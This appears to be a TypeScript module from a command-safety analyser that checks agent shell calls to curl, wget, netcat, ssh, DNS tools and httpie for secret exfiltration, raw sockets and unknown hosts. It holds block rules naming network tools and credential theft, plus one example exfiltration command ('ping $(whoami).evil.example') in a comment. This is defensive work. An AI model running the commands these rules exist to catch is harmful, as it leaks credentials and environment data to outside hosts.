import { posix } from "node:path";
import type { Analysis } from "../analysis.js";
import { isMetadataHost } from "../hosts.js";
import { has, lit, normArg, optValue, optValues, parseOpts, spec } from "../options.js";
import { DYN, revealsSecrets, type StdinSource, show, type Val } from "../values.js";
import { account } from "./account.js";
import { H, type Io } from "./registry.js";

/** Network clients: curl, wget, raw sockets, ssh and friends, DNS probes. */

/** A URL as a client reads a word without a scheme (`curl 10.0.0.1/x` is `http://10.0.0.1/x`). */
export function asUrl(raw: string): string {
  return /^[a-zA-Z][a-zA-Z0-9+.-]*:\/\//.test(raw) || raw.includes(DYN) ? raw : `http://${raw}`;
}

/**
 * DNS and ICMP probes only read, but the name they look up leaves the machine: a host outside the
 * allowlist, or one built at run time (`ping $(whoami).evil.example`), is a network contact like curl's.
 */
export function lookupTool(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const valueOpts = [
    "-c",
    "-i",
    "-W",
    "-w",
    "-s",
    "-t",
    "-p",
    "-q",
    "-f",
    "-m",
    "-I",
    "-b",
    "-x",
    "-k",
    "-y",
    "-h",
  ];
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!;
    if (v.s.startsWith("-") && !v.dyn) {
      if (valueOpts.includes(v.s)) i++;
      continue;
    }
    const raw = v.s.replace(/^@/, "");
    if (v.dyn) a.grey("dynamic_host", `\`${io.name}\` looks up a host that cannot be known before it runs`);
    else if ((/[a-zA-Z]/.test(raw) && /\./.test(raw)) || isMetadataHost(raw))
      a.host(`dns://${raw}`, `\`${io.name}\``, false);
  }
  return { text: null, network: false, secret: false, via: `\`${io.name}\`` };
}
for (const n of [
  "ping",
  "ping6",
  "dig",
  "nslookup",
  "host",
  "drill",
  "traceroute",
  "tracepath",
  "mtr",
  "whois",
])
  H[n] = lookupTool;

// `man -P CMD` / `--pager=CMD` runs CMD through a shell to page.
// --- network -----------------------------------------------------------------------------------

export function uploadSecret(v: Val, a: Analysis): 0 | 1 | 2 {
  if (v.secret) return v.secret;
  const at = v.s.replace(/^[^@]*@/, "");
  if (v.s.includes("@") && a.secretFile(at)) return 2;
  return 0;
}

/** curl options whose value is sent as the request body or uploaded. */
/**
 * curl's options agents use, from curl(1): what each value is. Files written (`-o`, `-D`, `-c`,
 * traces) are writes; proxies and DoH servers are hosts; anything not listed is grey.
 */
const CURL = spec(
  "-s -S -L -f -k -i -I -v -O -J -G -N -n -q -Z -0 -1 -2 -3 -4 -6 -# -j -l -M -R -V -h -p -B -a -g " +
    "--silent --show-error --location --location-trusted --fail --fail-with-body --fail-early --insecure " +
    "--include --head --verbose --remote-name --remote-name-all --remote-header-name --get --no-buffer --netrc " +
    "--netrc-optional --disable --parallel --parallel-immediate --http1.0 --http1.1 --http2 --http2-prior-knowledge " +
    "--http3 --http3-only --tlsv1 --tlsv1.0 --tlsv1.1 --tlsv1.2 --tlsv1.3 --ipv4 --ipv6 --progress-bar " +
    "--junk-session-cookies --list-only --manual --remote-time --version --help --use-ascii --proxytunnel " +
    "--globoff --compressed --compressed-ssh --create-dirs --raw --tr-encoding --no-keepalive --no-sessionid " +
    "--no-progress-meter --styled-output --no-styled-output --ssl --ssl-reqd --ssl-no-revoke --tcp-nodelay " +
    "--tcp-fastopen --path-as-is --digest --basic --ntlm --negotiate --anyauth --post301 --post302 --post303 " +
    "--fail-early --false-start --xattr --ignore-content-length --disallow-username-in-url --suppress-connect-headers " +
    "--remove-on-error --skip-existing --show-headers --no-clobber --clobber --retry-all-errors --retry-connrefused " +
    "--metalink --crlf --append --ftp-pasv --ftp-create-dirs --ca-native --proxy-insecure " +
    "-d= -F= -T=read -H= -X= -u= -A= -e= -b= -m= -w= -r= -C= -E= -Y= -y= -z= -U= -Q= -t= -P= " +
    "--data= --data-binary= --data-raw= --data-urlencode= --data-ascii= --json= --form= --form-string= " +
    "--upload-file=read --header= --proxy-header= --request= --user= --user-agent= --referer= --cookie= " +
    "--max-time= --connect-timeout= --write-out= --retry= --retry-delay= --retry-max-time= --range= " +
    "--continue-at= --limit-rate= --speed-limit= --speed-time= --time-cond= --max-filesize= --max-redirs= " +
    "--keepalive-time= --expect100-timeout= --happy-eyeballs-timeout-ms= --url-query= --variable= --expand-url= " +
    "--expand-data= --expand-header= --oauth2-bearer= --aws-sigv4= --request-target= --service-name= " +
    "--parallel-max= --rate= --ciphers= --tls13-ciphers= --curves= --pinnedpubkey= --cert-type= --key-type= " +
    "--pass= --proxy-user= --proxy-basic --proxy-digest --proxy-ntlm --proxy-anyauth --noproxy= --interface= " +
    "--local-port= --dns-servers= --dns-interface= --dns-ipv4-addr= --dns-ipv6-addr= --mail-from= --mail-rcpt= " +
    "--ftp-port= --quote= --telnet-option= --tftp-blksize= --unix-socket=read --abstract-unix-socket= " +
    "--cacert=read --capath=read --cert=read --key=read --crlfile=read --netrc-file=read -K=read --config=read " +
    "--url= --connect-to= --resolve= --trace-config= " +
    "-o=write --output=write -D=write --dump-header=write -c=write --cookie-jar=write --trace=write " +
    "--trace-ascii=write --stderr=write --output-dir=write --etag-save=write --etag-compare=read " +
    "--hsts=write --alt-svc=write --libcurl=write --trace-time --trace-ids " +
    "-x=host --proxy=host --preproxy=host --socks4=host --socks4a=host --socks5=host --socks5-hostname=host " +
    "--proxy1.0=host --doh-url=host",
);

export const CURL_BODY_OPTIONS = [
  "-d",
  "--data",
  "--data-binary",
  "--data-raw",
  "--data-urlencode",
  "--data-ascii",
  "-F",
  "--form",
  "--form-string",
  "-T",
  "--upload-file",
];

H.curl = (args, a, io) => {
  const p = parseOpts(args, [
    "-o",
    "--output",
    ...CURL_BODY_OPTIONS,
    "-X",
    "--request",
    "-H",
    "--header",
    "-u",
    "--user",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "-D",
    "--dump-header",
    "-K",
    "--config",
    "-m",
    "--max-time",
    "--connect-timeout",
    "-w",
    "--write-out",
    "--json",
    "-x",
    "--proxy",
    "--retry",
    "-r",
    "--range",
    "--cacert",
    "--cert",
    "--key",
    "-E",
    "--resolve",
    "--url",
    "-C",
    "--continue-at",
    "--output-dir",
    "--limit-rate",
    "-Y",
    "-y",
    "--stderr",
    "--trace",
    "--trace-ascii",
    "-z",
    "--time-cond",
    "--interface",
    "--unix-socket",
  ]);
  const via = "`curl`";
  const checked = account(via, args, CURL, a, "grey");
  for (const o of checked.opts) {
    const role = CURL.opts.get(o.name)?.role;
    // A proxy or DNS-over-HTTPS server sees (and can answer) every request: a host like the URL.
    if (role === "host" && o.value) a.host(o.value.s, `${via} ${o.name}`, true);
    if (o.name === "--resolve" || o.name === "--connect-to")
      a.grey("network_redirect", `${via} ${o.name} sends the request to another address than the URL names`);
  }
  if (has(p, "-K", "--config")) a.grey("curl_config", "`curl -K` reads options from a file");
  // `-w '%output{FILE}…'` (curl 8.3+) writes the rest of the format to FILE; `-w @FILE` reads the
  // format from a file the call does not show (redteam3).
  for (const w of optValues(p, "-w", "--write-out")) {
    if (w.dyn || w.s.startsWith("@")) {
      a.grey(
        "curl_config",
        `${via} -w takes a format that cannot be known (${show(w)}), which may name a file to write`,
      );
      continue;
    }
    for (const m of w.s.matchAll(/%output\{(?:>>)?([^}]*)\}/g))
      a.write(lit(m[1]!), "write", `${via} -w %output{}`);
  }
  const data = optValues(p, ...CURL_BODY_OPTIONS, "--json");
  const headers = optValues(p, "-H", "--header", "-u", "--user", "-b", "--cookie");
  const method = optValue(p, "-X", "--request")?.s.toUpperCase() ?? null;
  let secret: 0 | 1 | 2 = 0;
  for (const d of [...data, ...headers]) secret = Math.max(secret, uploadSecret(d, a)) as 0 | 1 | 2;
  // `-T FILE` uploads the file itself.
  for (const f of optValues(p, "-T", "--upload-file")) if (!f.dyn && a.secretFile(f.s)) secret = 2;
  for (const u of p.positional) secret = Math.max(secret, u.secret) as 0 | 1 | 2;
  if (io.stdin?.secret && data.some((d) => /^@-$|^-$/.test(d.s))) secret = 2;
  const sends = data.length > 0 || (method !== null && method !== "GET" && method !== "HEAD");
  if (secret === 2) {
    a.block("exfiltration", `${via} sends the environment or a credential file to a remote host`);
    return null;
  }
  const urls = [...p.positional, ...optValues(p, "--url")];
  // A file:// URL reads a local file into the output.
  for (const u of urls) {
    const local = /^file:\/\/(?:localhost)?(\/.*)$/i.exec(u.s)?.[1];
    if (local && revealsSecrets(decodeURIComponent(local), a.ctx.home, false))
      a.grey("secret_read", `${via} reads ${local}, which holds credentials`);
  }
  // DELETE/PUT/PATCH change a remote service (a repository's settings, a release…), allowlisted or
  // not; against a local dev server they are everyday testing.
  const remote = urls.some(
    (u) => !/^(https?:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[::1\]|0\.0\.0\.0)([:/]|$)/.test(u.s),
  );
  if (remote && (method === "DELETE" || method === "PUT" || method === "PATCH"))
    a.grey("remote_change", `${via} -X ${method} changes something on a remote service`);
  for (const u of urls) a.host(asUrl(u.s), via, sends);
  if (secret === 1) a.grey("secret_send", `${via} sends a secret-looking variable`);
  for (const o of optValues(
    p,
    "-o",
    "--output",
    "-D",
    "--dump-header",
    "-c",
    "--cookie-jar",
    "--trace",
    "--trace-ascii",
    "--stderr",
  )) {
    if (o.s === "-" || o.s === "/dev/null") continue;
    a.write(o, "write", via);
    const abs = a.resolve(o);
    if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
  }
  if (has(p, "-O", "--remote-name", "--remote-name-all")) {
    const dir = optValue(p, "--output-dir");
    if (dir) a.write(dir, "write", via);
    else a.project(`${via} -O`);
    for (const u of urls) {
      const base = posix.basename(u.s.split(/[?#]/)[0] ?? "");
      const abs = a.resolve(lit(base));
      if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
    }
  }
  if (sends) a.fx.readOnly = false;
  return { text: null, network: true, secret: false, via };
};

H.wget = (args, a, io) => {
  const p = parseOpts(args, [
    "-O",
    "--output-document",
    "-P",
    "--directory-prefix",
    "-o",
    "--output-file",
    "-a",
    "--append-output",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "--method",
    "--header",
    "-i",
    "--input-file",
    "-U",
    "--user-agent",
    "--user",
    "--password",
    "-t",
    "--tries",
    "-T",
    "--timeout",
    "-e",
    "--execute",
    "-Q",
    "--quota",
    "--load-cookies",
    "--save-cookies",
  ]);
  const via = "`wget`";
  const post = optValues(p, "--post-data", "--post-file", "--body-data", "--body-file");
  let secret: 0 | 1 | 2 = 0;
  for (const d of [...post, ...optValues(p, "--header", "--password")])
    secret = Math.max(secret, d.secret, !d.dyn && a.secretFile(d.s) ? 2 : 0) as 0 | 1 | 2;
  if (secret === 2) {
    a.block("exfiltration", `${via} sends the environment or a credential file to a remote host`);
    return null;
  }
  if (has(p, "-e", "--execute", "-i", "--input-file") || args.some((v) => /^--config(=|$)/.test(normArg(v))))
    a.grey("wget_config", "`wget -e/-i` takes commands or URLs from elsewhere");
  const method = optValue(p, "--method")?.s.toUpperCase();
  const sends = post.length > 0 || (method !== undefined && method !== "GET" && method !== "HEAD");
  for (const u of p.positional) a.host(asUrl(u.s), via, sends);
  if (secret === 1) a.grey("secret_send", `${via} sends a secret-looking variable`);
  const out = optValue(p, "-O", "--output-document");
  for (const o of optValues(p, "-o", "--output-file", "-a", "--append-output", "--save-cookies"))
    a.write(o, "write", via);
  if (out) {
    if (out.s !== "-" && out.s !== "/dev/null") {
      a.write(out, "write", via);
      const abs = a.resolve(out);
      if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
    }
    return out.s === "-" ? { text: null, network: true, secret: false, via } : null;
  }
  const dir = optValue(p, "-P", "--directory-prefix");
  if (dir) a.write(dir, "write", via);
  else a.project(via);
  for (const u of p.positional) {
    const base = posix.basename(u.s.split(/[?#]/)[0] ?? "") || "index.html";
    const abs = a.resolve(dir ? lit(`${dir.s}/${base}`) : lit(base));
    if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
  }
  void io;
  return null;
};

/**
 * `nc -z HOST PORT…` (netcat's zero-I/O mode: connect and close, send nothing) against this
 * machine is a readiness check (`nc -z localhost 5432 && …`). Every word must be one of the probe's
 * own (OpenBSD and GNU netcat, ncat): `-z`, `-v`, `-n`, `-4`/`-6`, `-w SECS`, `-G SECS`; any
 * other host or option is a raw connection.
 */
function portProbe(args: Val[], io: Io): boolean {
  if (!/^(nc|ncat|netcat)$/.test(io.name)) return false;
  let zero = false;
  const rest: Val[] = [];
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!;
    if (v.dyn) return false;
    if (/^-(w|G)$/.test(v.s)) {
      if (!/^\d+$/.test(args[++i]?.s ?? "")) return false;
    } else if (/^-[zvn46]+$/.test(v.s)) zero ||= v.s.includes("z");
    else if (/^-[zvn46]*[wG]\d+$/.test(v.s)) zero ||= v.s.includes("z");
    else if (v.s.startsWith("-")) return false;
    else rest.push(v);
  }
  const [host, ...ports] = rest;
  return (
    zero &&
    host !== undefined &&
    /^(localhost|127(\.\d{1,3}){3}|::1)$/.test(host.s) &&
    ports.length > 0 &&
    ports.every((p) => /^\d+(-\d+)?$/.test(p.s))
  );
}

export function rawNetwork(args: Val[], a: Analysis, io: Io): StdinSource | null {
  if (io.stdin?.secret) {
    a.block("exfiltration", `${io.stdin.via} output is sent over the network by \`${io.name}\``);
    return null;
  }
  if (portProbe(args, io)) return null;
  a.grey("raw_network", `\`${io.name}\` opens a raw network connection`);
  for (const v of args) if (!v.s.startsWith("-")) a.host(v.s, `\`${io.name}\``, true);
  return { text: null, network: true, secret: false, via: `\`${io.name}\`` };
}
for (const n of [
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",

  "ftp",
  "tftp",
  "mail",
  "mailx",
  "sendmail",
  "mutt",
])
  H[n] = rawNetwork;

export function remoteAccess(args: Val[], a: Analysis, io: Io): null {
  for (const v of args) {
    const host = v.s.replace(/^[^@]*@/, "").replace(/:.*$/, "");
    if (!v.dyn && !v.s.startsWith("-") && isMetadataHost(host)) a.host(host, `\`${io.name}\``, true);
  }
  if (
    io.stdin?.secret ||
    args.some((v) => v.secret === 2 || (!v.dyn && a.secretFile(v.s.replace(/^[^@]*@/, ""))))
  ) {
    a.block("exfiltration", `\`${io.name}\` sends a credential or the environment to another machine`);
    return null;
  }
  a.grey("remote_access", `\`${io.name}\` runs commands on or copies files to another machine`);
  return null;
}
for (const n of ["ssh", "scp", "sftp", "rclone", "mosh"]) H[n] = remoteAccess;

H.http = (args, a) => {
  const method = args[0] && /^[A-Z]+$/.test(args[0].s) ? args[0].s : null;
  const url =
    args.find((v) => !v.s.startsWith("-") && v !== args[0]) ?? args.find((v) => !v.s.startsWith("-"));
  const sends =
    (method !== null && method !== "GET" && method !== "HEAD") ||
    args.some((v) => /^[\w-]+(=|:=|@)/.test(v.s));
  if (args.some((v) => v.secret === 2)) {
    a.block("exfiltration", "`http` sends the environment or a credential to a remote host");
    return null;
  }
  if (url) a.host(asUrl(url.s), "`http`", sends);
  return { text: null, network: true, secret: false, via: "`http`" };
};
H.https = H.http;
H.xh = H.http;
